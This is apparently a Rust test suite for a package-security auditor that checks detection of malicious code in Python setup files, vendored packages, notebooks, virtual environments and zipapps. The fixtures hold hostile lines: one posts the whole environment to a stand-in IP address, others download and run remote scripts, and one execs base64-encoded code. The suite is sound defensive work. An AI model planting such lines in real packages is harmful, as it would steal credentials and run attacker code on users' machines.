//! Packages that lie unpacked in a target: what is told of them, and what is left to their authors.

use crate::audit;
use std::collections::BTreeSet;
use wellhead_engine::Options;

/// Code that is hidden in data and run; it prints a word.
const HIDDEN: &str = "import base64\nexec(base64.b64decode(\"cHJpbnQoJ2luZXJ0Jyk=\"))\n";
/// Sends everything in the environment away.
const SENDS: &str = "import os, requests\nrequests.post(\"http://203.0.113.5/c\", json=dict(os.environ))\n";
const SETUP: &str = "from setuptools import setup\nsetup(name=\"acme\")\n";
const PROJECT: &str = "[project]\nname = \"acme\"\nversion = \"1.0\"\n";

/// `rule artifact` of what is told by the rules on packages.
fn told(files: &[(&str, &str)], asked: &[&str]) -> Vec<String> {
    let files: Vec<(&str, &[u8])> = files.iter().map(|(p, t)| (*p, t.as_bytes())).collect();
    let options = Options {
        asked: asked.iter().map(|a| (*a).to_owned()).collect::<BTreeSet<_>>(),
        ..Options::default()
    };
    let report = audit(&files, &options);
    let rules = [
        "malicious-package-code",
        "suspicious-package-code",
        "startup-hook",
    ];
    let findings = report
        .findings
        .iter()
        .filter(|f| rules.contains(&f.rule.as_ref()));
    findings
        .map(|f| format!("{} {} {}", f.severity, f.rule, f.primary().unwrap().artifact))
        .collect()
}

#[test]
fn code_that_runs_by_itself_is_found_wherever_it_lies() {
    let setup = format!("{HIDDEN}{SETUP}");
    let notebook = "{\"cells\":[{\"cell_type\":\"code\",\"source\":[\"%pip install x\\n\",\"import base64\\n\",\"exec(base64.b64decode('cHJpbnQoJ2luZXJ0Jyk='))\\n\"]}],\"metadata\":{},\"nbformat\":4,\"nbformat_minor\":5}";
    for (files, asked, expected) in [
        (
            vec![("setup.py", setup.as_str()), ("acme/__init__.py", "")],
            vec![],
            "setup.py",
        ),
        // What the package imports runs with it, in a project below the target.
        (
            vec![
                ("libs/b/pyproject.toml", PROJECT),
                ("libs/b/src/b/__init__.py", "from . import core\n"),
                ("libs/b/src/b/core.py", SENDS),
            ],
            vec![],
            "libs/b/src/b/core.py",
        ),
        // A builder inside of a package does not cut it off.
        (
            vec![
                ("setup.py", SETUP),
                ("acme/setup.py", SETUP),
                ("acme/__init__.py", SENDS),
            ],
            vec![],
            "acme/__init__.py",
        ),
        // What is vendored is imported, whoever imports it.
        (
            vec![
                ("pyproject.toml", PROJECT),
                ("src/acme/__init__.py", ""),
                ("src/acme/_vendor/evil/__init__.py", SENDS),
            ],
            vec![],
            "src/acme/_vendor/evil/__init__.py",
        ),
        (
            vec![
                ("setup.py", SETUP),
                ("third_party/thing-1.0/thing/__init__.py", HIDDEN),
            ],
            vec![],
            "third_party/thing-1.0/thing/__init__.py",
        ),
        // What was installed, by its record and without one.
        (
            vec![
                ("site-packages/acme/__init__.py", SENDS),
                (
                    "site-packages/acme-1.0.dist-info/METADATA",
                    "Name: acme\nVersion: 1.0\n",
                ),
                ("site-packages/acme-1.0.dist-info/RECORD", "acme/__init__.py,,\n"),
            ],
            vec![],
            "site-packages/acme/__init__.py",
        ),
        (
            vec![("lib/site-packages/stray.py", HIDDEN)],
            vec![],
            "lib/site-packages/stray.py",
        ),
        // Files alone, named or not, and the package whose folder is the target.
        (vec![("evil.py", HIDDEN)], vec!["evil.py"], "evil.py"),
        (vec![("work/evil.py", SENDS)], vec![], "work/evil.py"),
        (
            vec![("__init__.py", "from . import x\n"), ("x.py", SENDS)],
            vec![],
            "x.py",
        ),
        (
            vec![("evil.ipynb", notebook)],
            vec!["evil.ipynb"],
            "evil.ipynb!/cells.py",
        ),
        (
            vec![("nb/evil.ipynb", notebook)],
            vec![],
            "nb/evil.ipynb!/cells.py",
        ),
        (
            vec![("conf/sitecustomize.py", SENDS)],
            vec![],
            "conf/sitecustomize.py",
        ),
    ] {
        let expected = format!("critical malicious-package-code {expected}");
        assert_eq!(told(&files, &asked), [expected], "{files:?}");
    }
}

#[test]
fn what_authors_do_in_their_own_tree_is_left_to_them() {
    let git = "import subprocess\nfrom setuptools import setup\nv = subprocess.check_output([\"git\", \"describe\"])\nsetup(name=\"acme\", version=v)\n";
    let fetches = "import subprocess, urllib.request\nurllib.request.urlretrieve(\"https://h.example/x.sh\", \"x.sh\")\nsubprocess.run([\"sh\", \"x.sh\"])\n";
    let runs = "import urllib.request\nexec(urllib.request.urlopen(\"https://h.example/x.py\").read())\n";
    let tells = "import platform, requests\nrequests.post(\"https://h.example/up\", json={\"node\": platform.node()})\n";
    let path = "import sys; sys.path.insert(0, '/x')\n";
    for files in [
        vec![
            ("setup.py", git),
            ("scripts/fetch.py", fetches),
            ("tool.py", runs),
        ],
        vec![
            ("pyproject.toml", PROJECT),
            ("monitor.py", tells),
            ("dev.pth", path),
        ],
        vec![("fetch.py", fetches), ("run.py", runs), ("monitor.py", tells)],
        // Weights have the ending of start-up files.
        vec![("model.pth", "\u{1}\u{2}import os\n"), ("a.py", "x = 1\n")],
    ] {
        assert_eq!(told(&files, &[]), [""; 0], "{files:?}");
    }
}

#[test]
fn what_is_left_out_is_said() {
    let large = format!("x = 1\n#{}\n", "x".repeat(17 << 20));
    let report = audit(
        &[("setup.py", SETUP.as_bytes()), ("acme.py", large.as_bytes())],
        &Options::default(),
    );
    assert_eq!(
        report.not_assessed.first().map(String::as_str),
        Some("the code of `.` was followed only in part: `acme.py` is too large")
    );
}

#[test]
fn what_lies_in_an_environment_unvouched_for_is_followed() {
    let site = "lib/python3.12/site-packages";
    let file = |path: &str, text: &str| (format!("{site}/{path}"), text.as_bytes().to_vec());
    let record = |text: &str| {
        let digest = wellhead_core::Digest::sha256(text.as_bytes()).hex;
        let bytes: Vec<u8> = (0..digest.len())
            .step_by(2)
            .map(|at| u8::from_str_radix(&digest[at..at + 2], 16).unwrap())
            .collect();
        // Rows hold the digest in the alphabet of addresses.
        let digits = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        let mut row = String::new();
        for chunk in bytes.chunks(3) {
            let word = chunk.iter().fold(0_u32, |w, b| w << 8 | u32::from(*b)) << (8 * (3 - chunk.len()));
            for at in 0..=chunk.len() {
                row.push(char::from(digits[(word >> (18 - 6 * at) & 63) as usize]));
            }
        }
        format!(
            "acme/__init__.py,sha256={row},{}\nacme-1.0.dist-info/METADATA,,\nacme-1.0.dist-info/RECORD,,\n",
            text.len()
        )
    };
    let told = |files: Vec<(String, Vec<u8>)>, depth| {
        let mut files = files;
        files.push(("pyvenv.cfg".to_owned(), b"version = 3.12.1\n".to_vec()));
        files.push(file(
            "acme-1.0.dist-info/METADATA",
            "Metadata-Version: 2.1\nName: acme\nVersion: 1.0\n",
        ));
        let prefix = wellhead_sources::Prefix::from_memory("env", files);
        let entries = vec![wellhead_sources::Entry {
            path: "env".to_owned(),
            content: wellhead_sources::Content::Environment(Box::new(prefix)),
        }];
        let listing = wellhead_engine::Listing {
            target: "env:".to_owned(),
            prefix: None,
            entries,
        };
        let options = Options {
            depth,
            ..Options::default()
        };
        let report = wellhead_engine::run(vec![listing], &options);
        let found = report
            .findings
            .iter()
            .filter(|f| f.rule == "malicious-package-code");
        found
            .map(|f| f.primary().unwrap().artifact.to_string())
            .collect::<Vec<_>>()
    };
    let acme = format!("{site}/acme/__init__.py");
    // Its record vouches for it: only who asks for all gets it followed.
    let installed = || {
        vec![
            file("acme/__init__.py", SENDS),
            file("acme-1.0.dist-info/RECORD", &record(SENDS)),
        ]
    };
    assert_eq!(told(installed(), wellhead_core::Depth::Headers), [""; 0]);
    assert_eq!(
        told(installed(), wellhead_core::Depth::Full),
        std::slice::from_ref(&acme)
    );
    // It was changed afterwards, or nobody installed it.
    let changed = vec![
        file("acme/__init__.py", SENDS),
        file("acme-1.0.dist-info/RECORD", &record("x = 1\n")),
    ];
    assert_eq!(told(changed, wellhead_core::Depth::Headers), [acme]);
    let stray = vec![
        file("acme/__init__.py", "x = 1\n"),
        file("acme-1.0.dist-info/RECORD", &record("x = 1\n")),
        file("stray/__init__.py", "from . import core\n"),
        file("stray/core.py", SENDS),
    ];
    assert_eq!(
        told(stray, wellhead_core::Depth::Headers),
        [format!("{site}/stray/core.py")]
    );
}

#[test]
fn what_is_started_is_judged_with_what_it_imports() {
    let pack = |members: &[(&str, &str)]| {
        let mut listing = String::new();
        for (name, content) in members {
            listing.push_str(&format!("member {name}\n"));
            for line in content.lines() {
                listing.push_str(&format!("  {line}\n"));
            }
        }
        wellhead_formats::assemble::assemble("zip", &listing).unwrap()
    };
    let main = ("__main__.py", "import app\napp.main()\n");
    for (name, members, expected) in [
        ("a.pyz", vec![main, ("app.py", HIDDEN)], vec!["a.pyz!/app.py"]),
        ("b.pyz", vec![("__main__.py", HIDDEN)], vec!["b.pyz!/__main__.py"]),
        (
            "acme-1.0-py3.12.egg",
            vec![
                (
                    "EGG-INFO/PKG-INFO",
                    "Metadata-Version: 1.1\nName: acme\nVersion: 1.0\n",
                ),
                ("acme/__init__.py", HIDDEN),
            ],
            vec!["acme-1.0-py3.12.egg!/acme/__init__.py"],
        ),
        (
            "c.pyz",
            vec![
                main,
                (
                    "app.py",
                    "import subprocess\ndef main():\n    print(subprocess.check_output(['git', 'status']))\n",
                ),
            ],
            vec![],
        ),
    ] {
        let report = audit(&[(name, &pack(&members))], &Options::default());
        let found = report
            .findings
            .iter()
            .filter(|f| f.rule == "malicious-package-code");
        let places: Vec<String> = found.map(|f| f.primary().unwrap().artifact.to_string()).collect();
        assert_eq!(places, expected, "{name}");
    }
}
